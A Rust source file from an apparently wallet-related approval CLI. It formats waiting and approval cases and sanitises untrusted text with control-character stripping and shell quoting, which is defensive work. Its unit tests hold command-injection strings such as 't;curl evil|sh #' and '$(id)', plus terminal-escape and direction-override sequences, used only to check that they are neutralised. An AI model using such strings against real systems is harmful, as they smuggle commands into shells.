//! What waits, for time or for people.

use std::borrow::Cow;

use quorate_approval::ApprovalRequest;
use quorate_intent::decode;
use quorate_proto::v1;
use quorate_proto::v1::approval_case::State;
use serde::Serialize;

use super::denial::{FailureView, instant};
use super::hex;
use crate::output::table;
use crate::refusal::{OrRefuse, Refusal};

/// A request that is neither signed nor denied yet.
#[derive(Debug, Clone, Serialize)]
pub(crate) struct WaitingView {
    pub(crate) tier: String,
    pub(crate) until_ms: u64,
    pub(crate) policy_hash: String,
    pub(crate) failures: Vec<FailureView>,
}

impl From<v1::Waiting> for WaitingView {
    fn from(waiting: v1::Waiting) -> Self {
        Self {
            tier: waiting.tier,
            until_ms: waiting.until_ms,
            policy_hash: hex(&waiting.policy_hash),
            failures: waiting.failures.into_iter().map(FailureView::from).collect(),
        }
    }
}

impl WaitingView {
    pub(crate) fn words(&self, wallet: &str, key: &str) -> String {
        let (wallet, key) = (word(wallet), word(key));
        let until = instant(self.until_ms);
        let mut words = match self.tier.as_str() {
            "delay" => format!("WAITING: on hold until {until}"),
            _ => format!("WAITING for approval until {until}"),
        };
        for failure in &self.failures {
            words.push_str(&failure.words());
        }
        if self.tier != "delay" {
            words.push_str(&format!("\n  approvers: quorate approval show --out FILE -- {wallet} {key}"));
        }
        if self.tier == "delay" {
            words
                .push_str(&format!("\n  to stop it: quorate approval refuse --reason WHY -- {wallet} {key}"));
        }
        words.push_str(&format!("\n  then ask again with the same payload and --idempotency-key={key}"));
        words
    }
}

/// A request that waits, for people or for time. Its words are made here of its payload.
#[derive(Debug, Clone, Serialize)]
pub(crate) struct CaseView {
    pub(crate) wallet: String,
    pub(crate) idempotency_key: String,
    pub(crate) state: &'static str,
    /// What the payload does: decoded here where there is the payload, and otherwise what approvers would sign.
    pub(crate) summary: String,
    pub(crate) approved_by: Vec<String>,
    /// 0 of a request on hold: it waits for time alone.
    pub(crate) threshold: u32,
    pub(crate) asked_at_ms: u64,
    pub(crate) expires_at_ms: u64,
    #[serde(skip_serializing_if = "String::is_empty")]
    pub(crate) refused_by: String,
    #[serde(skip_serializing_if = "String::is_empty")]
    pub(crate) reason: String,
    /// Of a no: something of the same payload was under way already, or over.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub(crate) may_be_late: bool,
    /// What is to be signed; of a request on hold there is nothing.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub(crate) body: String,
}

/// Without anything a terminal would obey, or that makes text look like other text: no controls, nothing that has no width or turns
/// the direction (Unicode's format characters).
pub(crate) fn plain(text: &str) -> String {
    let unseen = |c: char| {
        matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
    };
    text.chars().map(|c| if c.is_control() || unseen(c) { '\u{fffd}' } else { c }).collect()
}

/// A word of a command that is told to people, as a shell reads it: a caller chooses keys, and they may hold what a shell obeys.
pub(crate) fn word(text: &str) -> String {
    let text = plain(text);
    shlex::try_quote(&text).map_or_else(|_| "?".to_owned(), Cow::into_owned)
}

impl CaseView {
    /// Reads a case, and believes nothing that it says of its payload.
    ///
    /// # Errors
    /// A [`Refusal`] where the payload cannot be read.
    pub(crate) fn of(case: v1::ApprovalCase) -> Result<Self, Refusal> {
        let state = match case.state() {
            State::Waiting => "waiting",
            State::Approved => "approved",
            State::Refused => "refused",
            State::Expired => "expired",
            State::OnHold => "on hold",
            State::Unspecified => "unknown",
        };
        let body = case.approval.map(|approval| approval.body);
        // What is shown is what would be signed, parsed here: its fields hold nothing a terminal would obey.
        let asked = body.as_deref().map(ApprovalRequest::parse).transpose().or_invalid("the case's body")?;
        let summary = match (case.payload, &asked) {
            (Some(payload), _) => {
                let payload =
                    quorate_proto::payload_from_pb(Some(payload)).or_invalid("the case's payload")?;
                decode(&payload).or_invalid("the case's payload")?.intent.summary()
            }
            (None, Some(asked)) => asked.summary.clone(),
            (None, None) => plain(&case.summary),
        };
        let named = asked.map(|asked| (asked.wallet.to_string(), asked.idempotency_key, asked.expires_at));
        let told = || (plain(&case.wallet), plain(&case.idempotency_key), case.expires_at_ms);
        let (wallet, idempotency_key, expires_at_ms) = named.unwrap_or_else(told);
        Ok(Self {
            wallet,
            idempotency_key,
            state,
            summary,
            approved_by: case.approved_by.iter().map(|name| plain(name)).collect(),
            threshold: case.threshold,
            asked_at_ms: case.asked_at_ms,
            expires_at_ms,
            refused_by: plain(&case.refused_by),
            reason: plain(&case.reason),
            may_be_late: case.may_be_late,
            body: String::from_utf8(body.unwrap_or_default()).or_invalid("the case's body")?,
        })
    }

    /// Whether it waits for time alone.
    pub(crate) fn is_hold(&self) -> bool {
        self.body.is_empty()
    }

    fn yes(&self) -> String {
        if self.is_hold() {
            return "-".to_owned();
        }
        let by = self.approved_by.join(", ");
        format!(
            "{} of {}{}",
            self.approved_by.len(),
            self.threshold,
            if by.is_empty() { by } else { format!(": {by}") }
        )
    }

    pub(crate) fn words(&self) -> String {
        let refused = match self.refused_by.as_str() {
            "" => String::new(),
            by => format!("\nrefused by   {by}: {}", self.reason),
        };
        let late = if self.may_be_late {
            "\nThe same payload is being signed, or its hold was over by other means: this may be too late. See `quorate audit tail`."
        } else {
            ""
        };
        let until = instant(self.expires_at_ms);
        let ends = if self.is_hold() {
            format!("until        {until}")
        } else {
            format!("approved     {}\nexpires      {until}", self.yes())
        };
        format!(
            "wallet       {}\nrequest      {}\nstate        {}\nwould        {}\n{ends}{refused}{late}",
            self.wallet, self.idempotency_key, self.state, self.summary,
        )
    }

    pub(crate) fn table(cases: &[Self]) -> String {
        let row = |case: &Self| {
            vec![
                case.wallet.clone(),
                case.idempotency_key.clone(),
                case.state.to_owned(),
                case.yes(),
                instant(case.expires_at_ms),
                case.summary.clone(),
            ]
        };
        let rows: Vec<_> = cases.iter().map(row).collect();
        table(&["WALLET", "REQUEST", "STATE", "APPROVED", "UNTIL", "WOULD"], &rows)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_caller_chose_is_one_word_of_a_command_and_nothing_else() {
        assert_eq!(word("ticket-17"), "ticket-17");
        assert_eq!(word("t;curl evil|sh #"), "'t;curl evil|sh #'");
        assert_eq!(word("$(id)"), "'$(id)'");
        assert_eq!(word("it's"), "\"it's\"");
        assert_eq!(word("a\u{202e}b\u{7}"), "'a\u{fffd}b\u{fffd}'");
    }

    #[test]
    fn what_cannot_be_seen_is_shown() {
        assert_eq!(plain("a\u{200b}b\u{2066}c\u{feff}d\u{1b}[2J"), "a\u{fffd}b\u{fffd}c\u{fffd}d\u{fffd}[2J");
        assert_eq!(plain("Zürich – 4.000 €"), "Zürich – 4.000 €");
    }
}
